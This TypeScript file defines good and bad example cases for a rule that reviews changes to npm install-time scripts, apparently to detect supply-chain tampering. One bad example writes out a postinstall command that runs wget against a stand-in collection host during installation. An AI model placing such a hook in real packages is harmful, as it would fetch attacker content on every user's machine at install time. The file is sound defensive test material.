import type { ReleaseRuleExamples } from '../rule-examples.ts';

const before = { name: 'postinstall', command: 'node setup.js', runsAtInstall: true } as const;
const files = [{ path: 'setup.js' }, { path: 'lib/setup.js' }] as const;

export const examples: ReleaseRuleExamples = {
  bad: [
    {
      why: 'another runtime runs another file',
      severity: 'high',
      old: { scripts: [before], files },
      new: { scripts: [{ ...before, command: 'bun run index.js' }], files },
    },
    {
      why: 'the command now fetches',
      severity: 'critical',
      old: { scripts: [before], files },
      new: {
        scripts: [{ ...before, command: 'node setup.js && wget -q https://collect.invalid/a' }],
        files,
      },
    },
    {
      why: 'when it fails, other code runs',
      severity: 'high',
      old: { scripts: [{ ...before, command: 'node setup.js || true' }], files },
      new: {
        scripts: [{ ...before, command: 'node setup.js || node -e "require(\'./index.js\')"' }],
        files,
      },
    },
    {
      why: 'the file moved',
      severity: 'medium',
      old: { scripts: [before], files },
      new: { scripts: [{ ...before, command: 'node lib/setup.js' }], files },
    },
    {
      why: 'the same command finds the file that was not there before',
      severity: 'high',
      old: { scripts: [{ ...before, command: "node late.js || echo 'not available'" }] },
      new: {
        scripts: [{ ...before, command: "node late.js || echo 'not available'" }],
        files: [{ path: 'late.js' }],
      },
    },
    {
      why: 'the file that it runs is not there',
      severity: 'high',
      old: { scripts: [before], files },
      new: { scripts: [{ ...before, command: 'node ./gone.js' }], files },
    },
  ],
  good: [
    { why: 'unchanged', old: { scripts: [before], files }, new: { scripts: [before], files } },
    {
      why: 'that failing is no failure is said for other shells, too',
      old: { scripts: [{ ...before, command: 'node setup.js || true' }], files },
      new: {
        scripts: [{ ...before, command: 'node setup.js || node -e "process.exit(0)"' }],
        files,
      },
    },
    {
      why: 'a script that a person runs changed',
      old: { scripts: [{ name: 'build', command: 'tsc', runsAtInstall: false }] },
      new: { scripts: [{ name: 'build', command: 'tsup', runsAtInstall: false }] },
    },
    {
      why: 'a new one, which is told as that',
      old: {},
      new: { scripts: [before], files },
    },
    { why: 'it is gone', old: { scripts: [before], files }, new: { files } },
  ],
};
